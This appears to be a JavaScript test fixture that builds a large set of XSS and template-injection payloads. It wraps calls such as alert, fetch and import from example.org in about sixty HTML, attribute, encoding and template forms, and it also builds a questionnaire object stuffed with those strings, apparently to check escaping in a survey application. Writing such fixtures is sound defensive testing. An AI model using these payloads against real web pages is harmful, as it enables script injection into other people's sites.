// SPDX-License-Identifier: GPL-3.0-or-later

// Texts that would run a script, load something or break the page if they were taken for HTML,
// CSS, a template or a part of a script.
'use strict';

const calls = ['alert(1)', 'window.hurt=1', 'import(\'https://example.org/x.js\')',
    'fetch(\'https://example.org/\')', 'document.body.remove()'];

const shapes = [
    (call) => `<script>${call}</script>`,
    (call) => `</script><script>${call}</script>`,
    (call) => `<!--<script>${call}</script>`,
    (call) => `--><script>${call}</script>`,
    (call) => `]]><script>${call}</script>`,
    (call) => `</title><script>${call}</script>`,
    (call) => `</textarea><script>${call}</script>`,
    (call) => `</style><script>${call}</script>`,
    (call) => `</noscript><img src=x onerror=${call}>`,
    (call) => `<img src=x onerror="${call}">`,
    (call) => `"><img src=x onerror='${call}'>`,
    (call) => `'><svg onload=${call}>`,
    (call) => `<svg><script>${call}</script></svg>`,
    (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    (call) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
    (call) => `<body onload=${call}>`,
    (call) => `<iframe src="javascript:${call}"></iframe>`,
    (call) => `<iframe srcdoc="<script>${call}</script>">`,
    (call) => `<object data="javascript:${call}">`,
    (call) => `<embed src="javascript:${call}">`,
    (call) => `<a href="javascript:${call}">x</a>`,
    (call) => `<a href="data:text/html,<script>${call}</script>">x</a>`,
    (call) => `<form action="javascript:${call}"><button>x</button></form>`,
    (call) => `<input autofocus onfocus=${call}>`,
    (call) => `<details open ontoggle=${call}>`,
    (call) => `<video><source onerror=${call}></video>`,
    (call) => `<audio src=x onerror=${call}>`,
    (call) => `<marquee onstart=${call}>x</marquee>`,
    (call) => `<link rel=stylesheet href="https://example.org/x.css" onload=${call}>`,
    (call) => `<style>@import 'https://example.org/x.css';</style>${call}`,
    (call) => `<base href="https://example.org/">${call}`,
    (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    (call) => `<div style="background:url(javascript:${call})">x</div>`,
    (call) => `<template><script>${call}</script></template>`,
    (call) => `<xmp></xmp><img src=x onerror=${call}>`,
    (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
    (call) => `<SCRIPT/XSS>${call}</SCRIPT>`,
    (call) => `<img src=x onerror&#61;${call}>`,
    (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
    (call) => `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`,
    (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
    (call) => `%3Cscript%3E${call}%3C/script%3E`,
    (call) => `\u2028${call}\u2029//`,
    (call) => `";${call};//`,
    (call) => `';${call};//`,
    (call) => '`;' + call + ';//',
    (call) => `\\";${call};//`,
    (call) => `*/${call}/*`,
    (call) => `{{${call}}}`,
    (call) => `{{constructor.constructor('${call}')()}}`,
    (call) => `<%= ${call} %>`,
    (call) => `#{${call}}`,
    (call) => `[[${call}]]`,
    (call) => `{"__proto__":{"x":"${call}"}}`,
    (call) => `javascript:${call}`,
    (call) => `\u202e<script>${call}</script>`,
    (call) => `\u0000<script>${call}</script>`.replace('\u0000', '\ufffd'),
    (call) => `＜script＞${call}＜/script＞`,
    (call) => `<ſcript>${call}</ſcript>`,
    (call) => `<a id=form name=form>${call}</a><a id=form name=view>`,
];

const hostileTexts = calls.flatMap((call) => shapes.map((shape) => shape(call)));

// A questionnaire in which every text, name of a list and code of an option is `text`.
function hostileQuestionnaire(text) {
    const both = { vi: text, en: text };
    const code = text.replace(/\s/g, '');
    const option = (one, more) => ({ code: one, label: both, ...more });
    const question = (name, kind, more = {}) =>
        ({ name, kind, text: both, instruction: both, ...more });
    return {
        name: 'hostile', version: text, title: both, introduction: both, closing: both,
        languages: ['vi', 'en'],
        lists: [
            { name: text, options: [
                option(code, { specify: true }), option('2', { exclusive: true })] },
            { name: 'dk', options: [option(code, { missing: 'dont-know' })] },
        ],
        sections: [
            { name: text, title: both, questions: [
                question('single', 'single', { list: text }),
                question('several', 'multiple', { list: text }),
                question('scale', 'scale', { list: text }),
                question('grid', 'grid', { list: text,
                    items: [{ name: 'item', label: both }, { name: 'other', label: both }] }),
                question('number', 'number', { unit: both, besides: 'dk' }),
                question('typed', 'text', { besides: 'dk' }),
                question('day', 'date'),
                question('ranking', 'ranking', { list: text, places: 1 }),
                question('advise', 'recommendation', { low: both, high: both }),
                question('note', 'note'),
                question('must', 'text', { required: 'yes',
                    checks: [{ condition: 'must = \'x\'', message: both }] }),
            ] },
            { name: 'after', title: { vi: '${typed}', en: '${typed}' }, questions: [
                { name: 'piped', kind: 'text', text: { vi: '${typed}', en: '${typed}' },
                    instruction: { vi: '${single_words}${typed}', en: '${typed}' } },
            ] },
        ],
    };
}

// The first so many of the texts have every shape.
const shapeCount = shapes.length;

module.exports = { hostileTexts, shapeCount, hostileQuestionnaire };
